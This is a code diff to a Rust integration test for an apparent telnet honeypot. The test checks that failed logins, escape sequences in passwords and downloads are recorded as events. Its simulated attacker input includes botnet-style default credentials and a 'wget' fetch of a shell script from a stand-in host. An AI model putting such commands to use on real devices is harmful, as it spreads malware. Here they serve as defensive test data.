@@ -36,6 +36,9 @@ fn telnet_sessions_reach_the_events_and_sessions_api() {
 
     let refused = telnet(addr, b"root\r\nvizxv\r\n\x04");
     assert!(refused.contains("Login incorrect"), "{refused}");
+    // Control characters typed at the login stay in what is recorded.
+    let probed = telnet(addr, b"admin\r\n\x1b[5mpw\r\n\x04");
+    assert!(probed.contains("Login incorrect"), "{probed}");
     let shell = telnet(
         addr,
         b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n123456\r\nenable\r\n/bin/busybox ECCHI\r\nwget http://198.51.100.5/x.sh\r\nexit\r\n",
@@ -79,11 +82,20 @@ fn telnet_sessions_reach_the_events_and_sessions_api() {
     }
     let failed = events
         .iter()
-        .find(|e| e["kind"] == "telnet.login.failed")
+        .find(|e| e["kind"] == "telnet.login.failed" && e["data"]["username"] == "root")
         .unwrap();
     assert_eq!(failed["data"]["username"], "root");
     assert_eq!(failed["data"]["password"], "vizxv");
     assert_eq!(failed["dst_port"], addr.port());
+    let probed = events
+        .iter()
+        .find(|e| e["kind"] == "telnet.login.failed" && e["data"]["username"] == "admin")
+        .unwrap_or_else(|| panic!("{events:?}"));
+    assert_eq!(probed["data"]["password"], "\u{1b}[5mpw");
+    assert!(
+        probed["summary"].as_str().unwrap().contains("\\x1b[5mpw"),
+        "{probed}"
+    );
     let download = events
         .iter()
         .find(|e| e["kind"] == "telnet.download")
